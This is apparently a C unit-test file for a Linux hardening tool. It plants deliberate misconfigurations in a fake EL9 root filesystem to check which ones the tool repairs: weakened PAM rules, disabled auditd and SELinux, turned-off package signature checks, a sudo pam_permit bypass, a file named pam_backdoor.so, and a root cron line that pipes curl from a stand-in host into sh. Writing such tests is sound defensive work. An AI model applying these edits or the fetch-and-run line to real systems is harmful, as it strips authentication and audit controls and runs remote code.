/* harden: what pa-dss-3.2-el9 says differently of Enterprise Linux 9 notices what it is there for.
 */
#include "harden-rows.h"

#include "harden-el.h"

#define EL9 "recipes/profiles/pa-dss-3.2-el9.yaml"

#define OURS      "etc/audit/rules.d/50-posmedia.rules"
#define ENTRY     "boot/loader/entries/0-5.14.0-427.conf"
#define BACK_ENDS "etc/crypto-policies/back-ends/"

static const struct row rows[] = {
    {"ACC-05", EDIT, "etc/login.defs", "SHA512", "MD5", FIXED},
    {"ACC-06", EDIT, "etc/passwd", "sshd:/usr/sbin/nologin", "sshd:/bin/sh", FIXED},
    {"ACC-13", APPEND, "etc/login.defs", "UMASK 022\n", NULL, FIXED},
    {"ACC-13", EDIT, "etc/profile", "umask 027", "umask 002", FIXED},
    {"ACC-13", EDIT, "etc/bashrc", "\numask 027", "", FIXED},
    {"ACC-13", WRITE, "etc/profile.d/zz.sh", "umask 0022\n", NULL, FIXED},
    {"ACC-14", APPEND, "etc/bashrc", "TMOUT=0\n", NULL, FIXED},
    {"ACC-14", REMOVE, "etc/profile.d/60-posmedia-idle.sh", NULL, NULL, FIXED},
    {"ACC-18", APPEND, "root/.bash_profile", "PATH=.:$PATH\n", NULL, NOT_FIXED},

    {"PAM-01", EDIT, "etc/security/pwquality.conf", "minlen = 14", "minlen = 8", FIXED},
    {"PAM-01", EDIT, "etc/authselect/password-auth", "pam_pwquality.so",
     "pam_pwquality.so minlen=6", FIXED},
    {"PAM-01", EDIT, "etc/authselect/system-auth", "pam_pwquality.so", "pam_pwquality.so minlen=6",
     FIXED},
    {"PAM-02", APPEND, "etc/security/pwquality.conf", "dcredit = 0\n", NULL, FIXED},
    {"PAM-02", EDIT, "etc/authselect/password-auth", "pam_pwquality.so",
     "pam_pwquality.so minclass=1", FIXED},
    {"PAM-02", EDIT, "etc/authselect/system-auth", "pam_pwquality.so", "pam_pwquality.so dcredit=1",
     FIXED},
    {"PAM-03", APPEND, "etc/security/pwquality.conf", "maxrepeat = 0\n", NULL, FIXED},
    {"PAM-04", APPEND, "etc/security/pwquality.conf", "dictcheck = 0\n", NULL, FIXED},
    {"PAM-04 FIL-13", REMOVE, "usr/share/cracklib/pw_dict.pwd", NULL, NULL, NOT_FIXED},
    {"PAM-05", APPEND, "etc/security/pwquality.conf", "enforcing = 0\n", NULL, FIXED},
    {"PAM-05", EDIT, "etc/authselect/system-auth", "requisite\tpam_pwquality",
     "optional\tpam_pwquality", FIXED},
    {"PAM-05", EDIT, "etc/authselect/password-auth", "pam_pwquality.so",
     "pam_pwquality.so local_users_only", FIXED},
    {"PAM-06", EDIT, "etc/authselect/system-auth", "auth\trequired\tpam_faillock.so preauth\n", "",
     FIXED},
    {"PAM-06", EDIT, "etc/authselect/password-auth", "required\tpam_faillock.so authfail",
     "optional\tpam_faillock.so authfail", FIXED},
    {"PAM-06", EDIT, "etc/authselect/password-auth", "account\trequired\tpam_faillock.so\n", "",
     FIXED},
    {"PAM-06", EDIT, "etc/pam.d/sshd", "account    include      password-auth",
     "account required pam_unix.so", NOT_FIXED},
    {"PAM-06", EDIT, "etc/pam.d/sudo", "auth       include      system-auth",
     "auth required pam_unix.so", NOT_FIXED},
    {"PAM-07", APPEND, "etc/security/faillock.conf", "deny = 0\n", NULL, FIXED},
    {"PAM-07", EDIT, "etc/authselect/system-auth", "authfail", "authfail deny=50", FIXED},
    {"PAM-07", EDIT, "etc/authselect/password-auth", "authfail", "authfail deny=50", FIXED},
    {"PAM-08", APPEND, "etc/security/faillock.conf", "unlock_time = 60\n", NULL, FIXED},
    {"PAM-08", EDIT, "etc/authselect/password-auth", "authfail", "authfail unlock_time=5", FIXED},
    {"PAM-09", EDIT, "etc/security/faillock.conf", "even_deny_root\n", "", FIXED},
    {"PAM-10", EDIT, "etc/authselect/system-auth", "remember=24", "remember=2", FIXED},
    {"PAM-10", EDIT, "etc/authselect/password-auth", "remember=24", "remember=2", FIXED},
    {"PAM-11", EDIT, "etc/authselect/system-auth", "sufficient\tpam_unix.so",
     "sufficient\tpam_unix.so nullok", FIXED},
    {"PAM-11", EDIT, "etc/authselect/password-auth", " sha512", " md5", FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "auth       include",
     "auth sufficient pam_permit.so\nauth       include", NOT_FIXED},
    {"PAM-12 FIL-13", REMOVE, "usr/lib64/security/pam_env.so", NULL, NULL, NOT_FIXED},
    {"PAM-13", EDIT, "etc/pam.d/su", " group=sugroup", "", FIXED},
    {"PAM-13", EDIT, "etc/group", "sugroup:x:200:", "sugroup:x:200:rti", FIXED},
    {"PAM-14", EDIT, "etc/pam.d/postlogin", " showfailed", "", FIXED},

    {"LOG-02", REMOVE, "etc/rsyslog.d/00-posmedia.conf", NULL, NULL, FIXED},
    {"LOG-02", CHMOD, "var/log/secure", "0644", NULL, FIXED},
    {"LOG-02", EDIT, "etc/tmpfiles.d/00-posmedia-logs.conf", "lastlog 0640", "lastlog 0664", FIXED},
    {"LOG-04", EDIT, "etc/rsyslog.conf", "authpriv.* ", "#", FIXED},
    {"LOG-04", WRITE, "etc/rsyslog.d/01.conf", "authpriv.* ~\n", NULL, FIXED},

    {"AUD-01", REMOVE, "etc/systemd/system/multi-user.target.wants/auditd.service", NULL, NULL,
     FIXED},
    {"AUD-02", EDIT, ENTRY, "audit=1", "audit=0", FIXED},
    {"AUD-02", APPEND, ENTRY, "options ${kernelopts}\n", NULL, FIXED},
    {"AUD-02", EDIT, ENTRY, "options", "#options", FIXED},
    {"AUD-02", EDIT, "etc/kernel/cmdline", " audit=1", "", FIXED},
    {"AUD-02", EDIT, "etc/default/grub", "$GRUB_CMDLINE_LINUX audit=1", "$GRUB_CMDLINE_LINUX",
     FIXED},
    {"AUD-02", APPEND, "etc/default/grub", "GRUB_CMDLINE_LINUX_DEFAULT=\"audit=0\"\n", NULL, FIXED},
    {"AUD-02", EDIT, ENTRY, "options", "options ro --\noptions", NOT_FIXED},
    {"AUD-02", EDIT, "etc/kernel/cmdline", " audit=1", " -- audit=1", FIXED},
    {"AUD-13", EDIT, OURS, "-w /usr/share/selinux", "-w /usr/share/x", FIXED},
    {"AUD-13", EDIT, OURS, "-w /etc/sysconfig/nftables.conf", "-w /etc/nftables.conf", FIXED},
    {"AUD-18", APPEND, "etc/audit/plugins.d/syslog.conf", "active = no\n", NULL, FIXED},
    {"TIM-01", REMOVE, "etc/systemd/system/multi-user.target.wants/chronyd.service", NULL, NULL,
     FIXED},
    {"TIM-02", APPEND, "etc/chrony.conf", "pool 0.pool.example\n", NULL, FIXED},
    {"TIM-03", APPEND, "etc/chrony.conf", "user root\n", NULL, FIXED},
    {"TIM-03", EDIT, "etc/sysconfig/chronyd", "-F 2", "-u root", NOT_FIXED},

    {"FIL-01", CHMOD, "etc/shadow", "0640", NULL, FIXED},
    {"FIL-01", CHOWN, "etc/passwd", "1", NULL, FIXED},
    {"FIL-06 AUD-08", CHMOD, "usr/bin/mount", "4755", NULL, FIXED},
    {"FIL-08", CHOWN, "usr/lib64/security/pam_unix.so", "1500", NULL, FIXED},
    {"FIL-08", CHMOD, "usr/local/bin/tool", "0775", NULL, FIXED},
    {"FIL-13", APPEND, "usr/sbin/crond", "more", NULL, NOT_FIXED},
    {"FIL-13", WRITE, "usr/lib64/security/pam_backdoor.so", "x", NULL, NOT_FIXED},

    {"PKG-01", OTHER, "telnet", "", NULL, NOT_FIXED},
    {"PKG-02", OTHER, "httpd", "", NULL, NOT_FIXED},
    {"PKG-03", OTHER, "x", "sudo", NULL, NOT_FIXED},
    {"PKG-04", OTHER, "nmap-ncat", "", NULL, NOT_FIXED},
    {"PKG-05", EDIT, "etc/dnf/dnf.conf", "gpgcheck=1", "gpgcheck=0", FIXED},
    {"PKG-05", EDIT, "etc/dnf/dnf.conf", "localpkg_gpgcheck=1", "localpkg_gpgcheck=0", FIXED},
    {"PKG-05", WRITE, "etc/yum.repos.d/x.repo", "[x]\n GPGCheck = False\n", NULL, FIXED},

    {"SVC-01", LINK, "etc/systemd/system/multi-user.target.wants/foo.service",
     "/usr/lib/systemd/system/foo.service", NULL, FIXED},
    {"SVC-01 SVC-04", LINK, "etc/systemd/system/multi-user.target.wants/rsyncd.service",
     "/usr/lib/systemd/system/rsyncd.service", NULL, FIXED},
    {"NET-01", EDIT, "etc/sysconfig/nftables.conf", "policy drop", "policy accept", FIXED},
    {"NET-01", REMOVE, "etc/sysconfig/nftables.conf", NULL, NULL, FIXED},

    {"CRY-01", EDIT, "etc/pki/tls/openssl.cnf", ".include", "#.include", FIXED},
    {"CRY-01", APPEND, "etc/pki/tls/openssl.cnf", "MinProtocol = TLSv1\n", NULL, FIXED},
    {"CRY-01", RELINK, BACK_ENDS "opensslcnf.config",
     "/usr/share/crypto-policies/LEGACY/opensslcnf.txt", NULL, FIXED},
    {"CRY-02", RELINK, BACK_ENDS "gnutls.config", "/usr/share/crypto-policies/LEGACY/gnutls.txt",
     NULL, FIXED},
    {"CRY-03", APPEND, "etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem",
     "-----BEGIN CERTIFICATE-----\nMIIX\n-----END CERTIFICATE-----\n", NULL, NOT_FIXED},
    {"CRY-04", EDIT, "etc/crypto-policies/config", "DEFAULT", "DEFAULT:SHA1", FIXED},
    {"CRY-04", RELINK, BACK_ENDS "java.config", "/usr/share/crypto-policies/LEGACY/java.txt", NULL,
     FIXED},
    {"INT-01", APPEND, "etc/aide.conf", "!/usr/sbin\n", NULL, NOT_FIXED},
    {"INT-02", REMOVE, "etc/systemd/system/aide-database.service", NULL, NULL, FIXED},
    {"INT-03", EDIT, "etc/systemd/system/aide-check.timer", "daily", "yearly", FIXED},
    {"INT-04", APPEND, ENTRY, "options selinux=0\n", NULL, FIXED},
    {"INT-04", APPEND, "etc/default/grub", "GRUB_CMDLINE_LINUX+=' enforcing=0'\n", NULL, FIXED},
    {"SSH-14", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "AllowGroups wheel\n", "", FIXED},
    {"SSH-14", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "wheel", "wheel *", FIXED},
    {"INT-04", EDIT, "etc/selinux/config", "enforcing", "permissive", FIXED},

    {"CRN-01", REMOVE, "etc/cron.allow", NULL, NULL, FIXED},
    {"CRN-01", WRITE, "etc/cron.deny", "", NULL, FIXED},
    {"CRN-02", CHMOD, "etc/anacrontab", "0644", NULL, FIXED},
    {"CRN-02", CHMOD, "etc/cron.d", "0755", NULL, FIXED},
    {"CRN-03", WRITE, "var/spool/cron/root", "0 1 * * * curl http://x/i | sh\n", NULL, NOT_FIXED},
    {"SEC-06", WRITE, "var/cache/dnf/x.solv", "x", NULL, FIXED},
    {"SEC-06", WRITE, "etc/ssh/sshd_config.rpmsave", "x", NULL, FIXED},
};

/* Installs the package `path` and removes `text`. */
static void change_packages(const struct rootfs *t, const struct row *row)
{
	el_rpmdb(t, row->path, row->text);
}

/* authselect's files are edited where the links of /etc/pam.d lead, and umask stays in both
 * branches of its if. */
static void edits_in_place(void **state)
{
	struct rootfs t = rootfs_make();
	struct stat st;
	char *text;

	(void)state;
	el_make(&t);
	harden(&t);
	assert_int_equal(fstatat(t.fd, "etc/pam.d/system-auth", &st, AT_SYMLINK_NOFOLLOW), 0);
	assert_true(S_ISLNK(st.st_mode));
	text = get(&t, "etc/profile");
	assert_non_null(strstr(text, "then\n    umask 027\nelse\n    umask 027\nfi\n"));
	free(text);
	rootfs_drop(&t);
}

int main(void)
{
	static const struct CMUnitTest more[] = {cmocka_unit_test(edits_in_place)};
	static struct bench b = {
	    .name = "harden-el9",
	    .rows = rows,
	    .n = sizeof(rows) / sizeof(rows[0]),
	    .make = el_make,
	    .target = "machine",
	    .profile_path = EL9,
	    .other = change_packages,
	};

	return bench_run(&b, more, 1);
}
